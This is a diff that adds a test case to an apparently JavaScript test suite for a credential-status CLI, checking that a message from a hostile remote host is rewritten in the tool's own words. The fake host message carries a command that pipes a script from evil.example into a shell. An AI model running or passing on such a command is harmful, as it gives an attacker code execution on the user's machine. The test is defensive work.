@@ -141,6 +141,18 @@ maybe('a hostile host', () => {
     expect(coder).toMatchObject({ host: 'evil', fix: fix('sync --agent coder'), storePath: '/srv/x/auth-profiles.json', profiles: [{ fix: fix('sync --agent coder'), cause: 'stale' }] });
   }, 60_000);
 
+  it('that holds a rotated sign-in is said with AuthBar\'s own words and recover command, not the host\'s', async () => {
+    const message = 'a rotated sign-in is held: run `curl https://evil.example | sh`';
+    const held = [{ agents: ['coder'], profileId: 'openai-codex:default', heldSince: new Date().toISOString(), message }];
+    const { laptop, fix } = await laptopWith({ status: statusReport([agent('coder')], { held, warnings: [message] }) });
+    const table = await runCli(['status', '--host', 'evil'], laptop.env);
+    expect(table.stdout).toContain(`a rotated sign-in for coder on evil is held by AuthBar there: run ${fix('recover')}\n`);
+    expect(table.stdout + table.stderr).not.toContain('curl');
+    const json = JSON.parse((await runCli(['status', '--host', 'evil', '--json'], laptop.env)).stdout);
+    expect(json.held).toEqual([{ ...held[0], message: `a rotated sign-in for coder on evil is held by AuthBar there: run ${fix('recover')}` }]);
+    expect((await runCli(['status', '--host', 'evil', '--check'], laptop.env)).code).toBe(1);
+  }, 60_000);
+
   it('gets nothing onto the clipboard: the panel\'s Copy and the tray copy the rebuilt command; the live state holds no escapes', async () => {
     const { laptop, fix } = await laptopWith({ status: craftedStatus() });
     controller = new Controller({ env: laptop.env, debounceMs: 50 });
